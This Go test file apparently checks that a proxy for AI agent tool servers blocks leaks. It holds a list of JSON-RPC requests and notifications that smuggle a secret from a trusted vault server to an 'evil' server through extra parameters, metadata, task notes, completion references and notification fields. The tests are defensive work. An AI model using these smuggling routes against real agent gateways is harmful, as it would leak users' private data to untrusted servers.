package attacks

import (
	"strings"
	"testing"
)

const secretText = "correct horse battery staple forty-two"

// ledgerServer is a server that returns private data and untrusted content to the agent.
func ledgerServer() server {
	return server{name: "vault", trust: "trusted", script: script{
		Tools:   tools(`{"name":"vault_read","annotations":{"readOnlyHint":true,"openWorldHint":true,"returnMetadata":{"source":"untrustedPublic","sensitivity":["financial"]}}}`),
		Results: results{"vault_read": text(secretText)},
	}}
}

// TestEnvelope puts private text into parts of requests that are no arguments.
func TestEnvelope(t *testing.T) {
	evil := server{name: "evil", script: script{
		Tools:     tools(`{"name":"look","inputSchema":{"type":"object","properties":{}},"annotations":{"readOnlyHint":true,"openWorldHint":false}}`),
		Prompts:   tools(`{"name":"p","arguments":[{"name":"a"}]}`),
		Resources: tools(`{"uri":"evil://1","name":"one"}`),
		Templates: tools(`{"uriTemplate":"evil://t/{x}","name":"t"}`),
	}}
	h := start(t, setup{servers: []server{ledgerServer(), evil}})
	h.request("prompts/list", nil)
	h.request("resources/list", nil)
	h.request("resources/templates/list", nil)
	if a := h.call("vault_read", args{}); a.refused() {
		t.Fatal(a.raw)
	}
	n := 0
	for _, line := range []string{
		`"method":"tools/call","params":{"name":"look","arguments":{},"extra":"SECRET"}`,
		`"method":"tools/call","params":{"name":"look","extra":{"SECRET":1}}`,
		`"method":"tools/call","params":{"name":"look","arguments":{},"task":{"ttl":60000,"note":"SECRET"}}`,
		`"method":"prompts/get","params":{"name":"p","extra":"SECRET"}`,
		`"method":"resources/read","params":{"uri":"evil://1","extra":"SECRET"}`,
		`"method":"resources/subscribe","params":{"uri":"evil://1","extra":"SECRET"}`,
		`"method":"resources/unsubscribe","params":{"uri":"evil://1","extra":"SECRET"}`,
		`"method":"completion/complete","params":{"ref":{"type":"ref/prompt","name":"p","title":"SECRET"},"argument":{"name":"a","value":""}}`,
		`"method":"completion/complete","params":{"ref":{"type":"SECRET","name":"p"},"argument":{"name":"a","value":""}}`,
		`"method":"completion/complete","params":{"ref":{"type":"ref/resource","uri":"evil://t/{x}","x":"SECRET"},"argument":{"name":"x","value":""}}`,
		`"method":"logging/setLevel","params":{"level":"error","note":"SECRET"}`,
		`"method":"logging/setLevel","params":{"level":"error","_meta":{"note":"SECRET"}}`,
		`"method":"tools/list","params":{"note":"SECRET"}`,
		`"method":"tools/resolve","params":{"name":"look","arguments":{},"note":"SECRET"}`,
		`"method":"tasks/get","params":{"taskId":"SECRET"}`,
		`"method":"ping","params":{"note":"SECRET"}`,
		`"method":"acme/x","params":{"note":"SECRET"}`,
	} {
		n++
		a := h.raw(`{"jsonrpc":"2.0","id":$ID,` + strings.ReplaceAll(line, "SECRET", secretText) + `}`)
		if h.reached("evil", "horse battery") {
			t.Errorf("through: %s -> %.200s", line, a.raw)
			h.write("evil.log", "")
		}
	}
	h.line(`{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":999,"reason":"` + secretText + `"}}`)
	h.line(`{"jsonrpc":"2.0","method":"notifications/roots/list_changed","params":{"note":"` + secretText + `"}}`)
	h.line(`{"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":1,"progress":1,"message":"` + secretText + `"}}`)
	h.line(`{"jsonrpc":"2.0","method":"notifications/initialized","params":{"note":"` + secretText + `"}}`)
	h.request("ping", nil)
	h.held("evil", "horse battery")
}
